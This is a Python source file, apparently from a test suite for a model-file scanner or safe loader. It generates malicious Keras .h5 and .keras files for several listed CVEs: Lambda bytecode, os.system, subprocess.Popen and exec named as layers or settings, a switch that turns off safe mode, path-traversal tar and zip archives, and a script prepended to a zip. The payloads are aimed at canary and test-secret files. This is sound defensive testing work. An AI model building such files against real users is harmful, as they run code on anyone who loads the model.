"""Attacks that want their own code to run, or a function or class of their choice."""

from __future__ import annotations

import base64
import json
import tarfile
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

from hostile.files import (
    Config,
    as_version_3,
    conv,
    functional,
    layer,
    sequential,
    write_h5,
    write_keras,
    write_model,
)
from hostile.registry import CANARY_MODULE, Attack, Traps, attack, payload, pickled, register_attack

Layers = Callable[[Traps], list[Config]]


def in_both_formats(layers: Layers) -> Layers:
    """Registers layers as an attack in HDF5 and in ``.keras``."""

    def writer(path: Path, traps: Traps) -> None:
        write_model(path, *layers(traps))

    for file in ("model.h5", "model.keras"):
        name = f"{layers.__name__}_{Path(file).suffix[1:]}"
        says = " ".join((layers.__doc__ or "").split())
        register_attack(Attack(name, file, says, writer))
    return layers


def code_of(traps: Traps) -> str:
    return base64.b64encode(payload(traps)).decode()


def byte_code(traps: Traps) -> Config:
    """Byte code as Keras 3 writes a function."""
    inner = {"code": code_of(traps), "defaults": None, "closure": None}
    return {"class_name": "__lambda__", "config": inner}


def named(module: str, kind: str, config: Any, **more: Any) -> Config:
    """An object of a configuration by its module."""
    return {"module": module, "class_name": kind, "config": config, **more}


def function(module: str, name: str, **more: Any) -> Config:
    return named(module, "function", name, **more)


def evil(name: str = "evil", **settings: Any) -> Config:
    return layer("Lambda", name, **settings)


def calling(traps: Traps) -> list[Config]:
    """Objects of a configuration that would run a command if they were made."""
    touch, fetched = ["touch", str(traps.canary)], traps.secret.as_uri()
    return [
        function("os", "system"),
        named("os", "system", {"command": traps.command}),
        named("subprocess", "Popen", {"args": touch}, registered_name="Popen"),
        named("builtins", "exec", {"source": traps.statement}),
        function("builtins", "eval"),
        named(CANARY_MODULE, "Conv2D", {}),
        function(CANARY_MODULE, "function"),
        named("keras.utils", "get_file", {"fname": str(traps.canary), "origin": fetched}),
    ]


# Lambda


@in_both_formats
def lambda_byte_code(traps: Traps) -> list[Config]:
    """CVE-2024-3660: byte code in a Lambda layer in the form of its format."""
    return [conv(), evil(function=[code_of(traps), None, None], function_type="lambda")]


@in_both_formats
def lambda_first(traps: Traps) -> list[Config]:
    """CVE-2025-9905: byte code in the first layer, for which safe_mode is not looked at."""
    return [evil(function=byte_code(traps), function_type="lambda"), conv()]


@in_both_formats
def lambda_raw_characters(traps: Traps) -> list[Config]:
    """CVE-2024-3660 as Keras 1 wrote it: byte code as characters instead of base64."""
    code = payload(traps).decode("latin-1")
    return [conv(), layer("Lambda", "evil", function=[code, None, None], function_type="lambda")]


@in_both_formats
def lambda_damaged_code(traps: Traps) -> list[Config]:
    """Byte code with references to nowhere, which crash Python's own reader of it."""
    code = base64.b64encode(b"\xe3" + b"\xff" * 40 + payload(traps)[:60]).decode()
    deep = base64.b64encode(b"(\x01\x00\x00\x00" * 50_000).decode()
    long = base64.b64encode(b"(\xff\xff\xff\x7f").decode()
    return [
        conv(),
        *(
            layer("Lambda", f"evil_{number}", function=[text, None, None], function_type="lambda")
            for number, text in enumerate((code, deep, long))
        ),
    ]


@in_both_formats
def lambda_output_shape(traps: Traps) -> list[Config]:
    """CVE-2024-3660: a harmless function, but byte code to tell the shape of the output."""
    code = code_of(traps)
    shape: Config = {"output_shape": [code, None, None], "output_shape_type": "lambda"}
    return [conv(), evil(function="relu", function_type="function", **shape)]


@in_both_formats
def lambda_named_function(traps: Traps) -> list[Config]:
    """CVE-2025-8747: no byte code, but the name of a function and its arguments."""
    given = {"command": traps.command}
    old = {"function": "system", "function_type": "function", "module": "os"}
    return [
        conv(),
        evil(function=function("os", "system"), arguments=given),
        evil("worse", **old, arguments=given),
    ]


@in_both_formats
def lambda_gadget_get_file(traps: Traps) -> list[Config]:
    """CVE-2025-8747: keras.utils.get_file as the function of a Lambda, which writes a file."""
    given: Config = {"fname": str(traps.canary), "origin": traps.secret.as_uri()}
    given |= {"cache_dir": str(traps.folder), "extract": True}
    return [conv(), evil(function=function("keras.utils", "get_file"), arguments=given)]


@in_both_formats
def activation_gadget_get_file(traps: Traps) -> list[Config]:
    """CVE-2025-8747: a function of Keras that fetches files, as an activation."""
    chosen = function("keras.utils", "get_file", registered_name="get_file")
    return [conv(activation=chosen)]


@in_both_formats
def unsafe_switch(traps: Traps) -> list[Config]:
    """CVE-2025-9906: switches safe mode off by a function of Keras, a Lambda follows."""
    name = "enable_unsafe_deserialization"
    switch = function("keras.config", name, registered_name=name)
    return [
        conv(activation=switch, kernel_initializer=switch),
        named("keras.config", name, {}),
        evil(function=byte_code(traps)),
    ]


@in_both_formats
def lambda_in_wrappers(traps: Traps) -> list[Config]:
    """CVE-2024-3660: byte code inside wrappers of wrappers."""
    wrapped = evil(function=[code_of(traps), None, None], function_type="lambda")
    inner = layer("TimeDistributed", "inner", layer=wrapped)
    return [conv(), layer("TimeDistributed", "outer", layer=inner)]


@in_both_formats
def lambda_in_cells(traps: Traps) -> list[Config]:
    """CVE-2024-3660: byte code as the cell of a recurrent layer, and in a stack of them."""
    cell = evil(function=[code_of(traps), None, None])
    stack = layer("StackedRNNCells", "stack", cells=[cell])
    return [
        conv(),
        layer("Reshape", "rows", target_shape=[8, 16]),
        layer("RNN", "first", cell=stack, return_sequences=True),
        layer("RNN", "second", cell=cell),
    ]


@in_both_formats
def lambda_in_pipeline(traps: Traps) -> list[Config]:
    """CVE-2024-3660: byte code inside the layer of Keras that holds a list of layers."""
    inner = as_version_3(evil(function=[code_of(traps), None, None]))
    return [conv(), layer("Pipeline", "pipeline", layers=[inner])]


@in_both_formats
def lambda_in_nested_model(traps: Traps) -> list[Config]:
    """CVE-2024-3660: byte code in a model in a model, under other names of the class."""
    code = code_of(traps)
    names = ("Lambda", "Custom>Lambda", "keras>Lambda", "builtins>Lambda", "keras.layers>Lambda")
    inner = [
        layer(name, f"evil_{number}", function=[code, None, None], function_type="lambda")
        for number, name in enumerate(names)
    ]
    return [conv(), {"class_name": "Sequential", "config": {"name": "inner", "layers": inner}}]


@in_both_formats
def torch_module_wrapper(traps: Traps) -> list[Config]:
    """A pickle in a TorchModuleWrapper, which torch.load runs."""
    text = base64.b64encode(pickled(traps)).decode()
    return [conv(), layer("TorchModuleWrapper", "evil", module=text)]


@in_both_formats
def tfsm_layer(traps: Traps) -> list[Config]:
    """A TFSMLayer that loads a SavedModel from elsewhere."""
    where = str(traps.secret_folder)
    return [conv(), layer("TFSMLayer", "evil", filepath=where, call_endpoint="serve")]


@in_both_formats
def jax_and_flax_layers(traps: Traps) -> list[Config]:
    """JaxLayer and FlaxLayer, whose functions are byte code or pickles."""
    value = byte_code(traps)
    return [
        conv(),
        layer("JaxLayer", "evil", call_fn=value, init_fn=value, params=[], state=[]),
        layer("FlaxLayer", "worse", module=base64.b64encode(pickled(traps)).decode()),
    ]


# Names of classes and functions


@in_both_formats
def layer_classes(traps: Traps) -> list[Config]:
    """CVE-2025-1550: layers whose module and class are arbitrary functions."""
    return [conv(), *({**value, "name": f"evil_{n}"} for n, value in enumerate(calling(traps)))]


@in_both_formats
def layer_class_first(traps: Traps) -> list[Config]:
    """CVE-2025-1550: the same in the first layer, with the name of a layer of Keras."""
    return [{**conv(), "module": CANARY_MODULE, "registered_name": f"{CANARY_MODULE}>Conv2D"}]


@in_both_formats
def unusual_modules(traps: Traps) -> list[Config]:
    """CVE-2025-1550: modules that do something when imported, named in every place."""
    return [
        {**conv(), "module": "antigravity", "registered_name": "this>Conv2D"},
        layer("antigravity>Conv2D", "second", filters=1, kernel_size=1),
        {"module": CANARY_MODULE, **layer("function", "third")},
    ]


def _in_setting(setting: str, says: str) -> None:
    """Registers arbitrary functions as the value of one setting of a convolution."""

    def writer(path: Path, traps: Traps) -> None:
        layers = [
            conv(f"conv{number or ''}")
            | {"config": conv(f"conv{number or ''}")["config"] | {setting: value}}
            for number, value in enumerate([*calling(traps), "os.system", "builtins.exec"])
        ]
        write_model(path, *layers)

    for file in ("model.h5", "model.keras"):
        name = f"setting_{setting}_{Path(file).suffix[1:]}"
        register_attack(Attack(name, file, says, writer))


for _setting in (
    *("activation", "kernel_initializer", "bias_regularizer", "activity_regularizer"),
    *("kernel_constraint", "dtype", "padding", "name"),
):
    _in_setting(_setting, f"CVE-2025-1550: arbitrary functions as the {_setting} of a layer.")


@attack("model.keras")
def call_arguments(path: Path, traps: Traps) -> None:
    """CVE-2025-1550: arbitrary functions among the arguments of a call in the graph."""
    config = functional(conv(), layer("ReLU", "relu"), version=3)
    node = config["config"]["layers"][2]["inbound_nodes"][0]
    node["args"] += calling(traps)
    node["kwargs"] = {"mask": calling(traps)[2], "training": calling(traps)[3]}
    write_keras(path, config)


@attack("model.keras")
def lambda_in_call_arguments(path: Path, traps: Traps) -> None:
    """A function as byte code and as a typespec among the arguments of a call."""
    config = functional(conv(), layer("ReLU", "relu"), version=3)
    config["config"]["layers"][2]["inbound_nodes"][0]["args"] += [
        byte_code(traps),
        {"class_name": "__typespec__", "spec_name": "os.system", "module": "os", "config": []},
    ]
    write_keras(path, config)


@attack("model.keras")
def typespec_setting(path: Path, traps: Traps) -> None:
    """CVE-2025-1550: a typespec, which imports a module and calls what it names."""
    spec: Config = {"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess"}
    spec |= {"config": [["touch", str(traps.canary)]], "registered_name": None}
    write_keras(path, sequential(conv(activity_regularizer=spec, activation=spec), version=3))


@attack("model.keras", refused=True)
def model_class(path: Path, traps: Traps) -> None:
    """CVE-2025-1550: the model itself is a class of a module that can be imported."""
    config = sequential(conv(), version=3)
    config |= {"module": CANARY_MODULE, "class_name": "Conv2D"}
    write_keras(path, config)


@attack("model.keras")
def model_registered_name(path: Path, traps: Traps) -> None:
    """CVE-2025-1550: a model of Keras whose module and registered name are not."""
    config = sequential(conv(), version=3)
    config |= {"module": CANARY_MODULE, "registered_name": f"{CANARY_MODULE}>Sequential"}
    write_keras(path, config)


def _collisions() -> None:
    """Registers each stolen name as its own file."""
    stolen = ("layersight>Unset", "layersight>TensorFlowCall", "layersight>Formula", "Sequential")
    call = ["call", "os.system", [["value", "true"]], {}]
    layers = [
        *({**conv(), "registered_name": name} for name in stolen),
        layer("layersight>TensorFlowCall", "a", function="os.system"),
        layer("TensorFlowCall", "b", function="__builtins__.exec"),
        layer("TensorFlowCall", "b", function="math.add_n"),
        layer("Formula", "c", expression=call),
        layer("Unset", "d", shape=[10**6, 10**6]),
        layer("Refused", "e", reason="none", outputs=10**9),
        conv(activation="hard_sigmoid_of_keras_2"),
        conv(activation={"class_name": "Formula", "config": {"expression": call}}),
        conv(kernel_initializer={"class_name": "Unset", "config": {"shape": [10**9]}}),
    ]
    stolen_name = "A name that layersight or Keras has registered for itself: "
    for number, entry in enumerate(layers):

        def writer(path: Path, traps: Traps, entry: Config = entry) -> None:
            first = [] if entry["class_name"] == "Conv2D" else [conv()]
            write_keras(path, sequential(*first, entry, version=3))

        says = f"{stolen_name}{entry['class_name']}, {entry.get('registered_name')}"
        register_attack(Attack(f"collision_{number}", "model.keras", says, writer))


_collisions()


@attack("model.keras")
def operation_modules(path: Path, traps: Traps) -> None:
    """Operations of Keras that run a function given to them: Map, Scan, Cond, While."""
    value = byte_code(traps)
    names = ("Map", "Scan", "AssociativeScan", "WhileLoop", "VectorizedMap", "Cond", "Switch")
    layers = [
        {**layer(name, name.lower(), function=value, f=value), "module": "keras.src.ops.core"}
        for name in (*names, "CustomGradient", "Vectorize")
    ]
    layers.append({**layer("Vectorize", "v", pyfunc=value), "module": "keras.src.ops.numpy"})
    write_keras(path, functional(conv(), *layers, version=3))


@attack("model.keras")
def compile_config(path: Path, traps: Traps) -> None:
    """CVE-2025-1550: arbitrary functions as optimiser, loss and metrics."""
    first, *rest = calling(traps)
    compiled = {"optimizer": first, "loss": rest[1], "metrics": rest, "loss_weights": rest[2]}
    write_keras(path, sequential(conv(), version=3, compile_config=compiled))


@attack("model.h5")
def training_config(path: Path, traps: Traps) -> None:
    """CVE-2025-9905: byte code in the training configuration of an HDF5 file."""
    code = code_of(traps)
    text = {"optimizer_config": calling(traps)[2], "loss": [code, None, None], "metrics": ["eval"]}
    write_h5(
        path,
        sequential(conv()),
        edit=lambda file: file.attrs.create("training_config", json.dumps(text)),
    )


@attack("model.keras")
def build_config(path: Path, traps: Traps) -> None:
    """CVE-2025-1550: arbitrary functions in what a layer is built with."""
    config = sequential(conv(), version=3, build_config=calling(traps)[3])
    config["config"]["layers"][1]["build_config"] = {"input_shape": calling(traps)}
    config["config"]["build_input_shape"] = calling(traps)[2]
    write_keras(path, config)


def _build_shapes() -> None:
    """Registers shapes to build with, each in a model without an input layer."""
    shapes: list[Any] = [
        *([None, 10**9, 10**9, 3], ["x", None, {}, []], [float("nan"), True, -1, 3]),
        *([None, 8, 8, 10**9], [[None, 8, 8, 3]], [], [None], {"x": [None, 8, 8, 3]}),
    ]
    for number, shape in enumerate(shapes):

        def writer(path: Path, traps: Traps, shape: Any = shape) -> None:
            config = sequential(conv(), version=3, build_config={"input_shape": shape})
            del config["config"]["layers"][0]
            write_keras(path, config)

        says = f"A model without an input layer that is to be built with {shape}."
        register_attack(Attack(f"build_shape_{number}", "model.keras", says, writer, heavy=True))


_build_shapes()


# Files and addresses in settings


def _vocabulary(kind: str, **more: Any) -> None:
    says = f"CVE-2025-12058: a {kind} whose vocabulary is a file or an address."

    def writer(path: Path, traps: Traps) -> None:
        targets = (str(traps.secret), traps.secret.as_uri(), "http://127.0.0.1:9/words.txt")
        layers = [
            layer(kind, f"words_{number}", vocabulary=target, **more)
            for number, target in enumerate(targets)
        ]
        wrapped = layer("TimeDistributed", "wrapped", layer=layers[0])
        write_model(path, wrapped, *layers, conv())

    for file in ("model.h5", "model.keras"):
        register_attack(Attack(f"{kind.lower()}_{file[6:]}", file, says, writer, refused=True))


_vocabulary("StringLookup", invert=False, max_tokens=None)
_vocabulary("IntegerLookup", invert=False, max_tokens=None)
_vocabulary("TextVectorization", max_tokens=None, split="whitespace")


@in_both_formats
def lookup_weights_file(traps: Traps) -> list[Config]:
    """CVE-2025-12058: the file is named by the weights of the words, or in a list."""
    where = str(traps.secret)
    return [
        layer("StringLookup", "a", vocabulary=["x"], idf_weights=where, output_mode="tf_idf"),
        layer("StringLookup", "b", vocabulary=[where], vocabulary_file=where),
        layer("Pipeline", "c", layers=[as_version_3(layer("StringLookup", "d", vocabulary=where))]),
        conv(),
    ]


@attack("model.keras")
def asset_archive(path: Path, traps: Traps) -> None:
    """CVE-2025-12060: assets in the archive with names and a tar that lead out of it."""
    members = {
        "assets/words/vocabulary.txt": str(traps.secret).encode(),
        f"assets/../../../..{traps.canary}": b"x",
        str(traps.canary): b"x",
        "assets/evil.tar": _tar(traps),
    }
    lookup = layer("StringLookup", "words", vocabulary=None)
    write_keras(path, sequential(conv(), lookup, version=3), members=members)


def _tar(traps: Traps) -> bytes:
    target = BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        for name in (str(traps.canary), f"../../../../../../../..{traps.canary}", "config.json"):
            archive.addfile(tarfile.TarInfo(name), BytesIO())
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, str(traps.folder)
        archive.addfile(link)
        archive.addfile(tarfile.TarInfo("link/canary"), BytesIO())
    return target.getvalue()


@attack("model.keras", refused=True)
def tar_as_model(path: Path, traps: Traps) -> None:
    """CVE-2025-12060: a tar whose members and links lead out of the folder."""
    path.write_bytes(_tar(traps))


@attack("model.keras", refused=True)
def script_with_zip(path: Path, traps: Traps) -> None:
    """A Python script before a zip archive that Python itself would run."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("__main__.py", traps.statement)
    path.write_bytes(f"#!/usr/bin/env python\n{traps.statement}\n".encode() + path.read_bytes())
